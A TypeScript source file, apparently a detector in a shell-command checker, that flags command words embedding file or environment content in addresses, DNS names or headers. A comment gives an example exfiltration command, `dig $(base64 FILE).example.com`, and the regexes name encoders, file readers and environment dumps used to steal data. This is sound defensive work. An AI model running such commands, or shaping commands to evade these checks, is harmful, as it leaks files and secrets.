/** Tells words that carry the content of files or of the environment out, as in `dig $(base64 FILE).example.com`, from words that name what is asked for. */
import type { Word } from './program';

const SUBSTITUTION = /\$\(|`/;
/** Encoded so that it fits into a name; random bytes and checksums are no content. */
const ENCODED = /\b(base64|base32|basenc|xxd|od|hexdump|uuencode|gzip|bzip2|openssl\s+enc)\b/;
const RANDOM = /\/dev\/u?random|\brand\b|\buuidgen\b/;
/** Files outside the workspace, or everything that is set. */
const OUTSIDE = /\b(cat|head|tail|strings|sed|awk|grep|tac|nl|paste|tr|cut|tar)\b[^|)]*\s(\/(?!dev\/|proc\/|sys\/|etc\/(hostname|machine-id|os-release|timezone))|~|\$\{?HOME)|<\s*(\/(?!dev\/)|~|\$\{?HOME)|(\$\(|`|\|)\s*(env|printenv|set|export|history)\b/;

/** Whether an address or a name holds content that it sends along. */
export function carriesContent(word: Word): boolean {
    return holdsOutput(word) && (ENCODED.test(word.shown) || OUTSIDE.test(word.shown));
}

/** A header, a cookie or the like names nothing, so that any file in it is sent. */
export function carriesFile(word: Word): boolean {
    return holdsOutput(word) && (carriesContent(word) || /(\$\(|`)\s*(cat|head|tail|<)/.test(word.shown));
}

/** The content of a file as one label of a name; a whole name that is read from a file is only looked up. */
export function carriesLabel(word: Word): boolean {
    return carriesContent(word) || carriesFile(word) && /[)`]["']?[.-]/.test(word.shown);
}

function holdsOutput({ value, shown }: Word): boolean {
    return value === undefined && SUBSTITUTION.test(shown) && !RANDOM.test(shown);
}
